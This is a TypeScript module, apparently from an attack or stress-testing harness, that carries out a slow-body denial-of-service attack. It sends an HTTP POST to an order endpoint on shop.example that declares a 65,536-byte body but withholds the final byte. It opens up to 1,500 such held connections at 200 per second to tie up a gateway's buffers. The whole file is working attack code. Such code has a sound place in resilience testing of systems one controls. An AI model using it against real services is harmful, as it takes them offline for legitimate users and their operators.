import { type Attack } from './attack.ts';
import { openSteadily } from './open-steadily.ts';
import { openConnection } from './target.ts';

/** The largest body that a gateway buffers. Its last byte is never sent. */
const BODY_BYTES = 65_536;
const REQUEST = Buffer.concat([
  Buffer.from(
    'POST /v1/orders HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n' +
      `Idempotency-Key: held\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`,
  ),
  Buffer.alloc(BODY_BYTES - 1, ' '),
]);

export const heldBodies: Attack = (targets, signal) =>
  openSteadily(targets, signal, {
    perSecond: 200,
    most: 1_500,
    open: (target) => openConnection(target, REQUEST, true),
  });
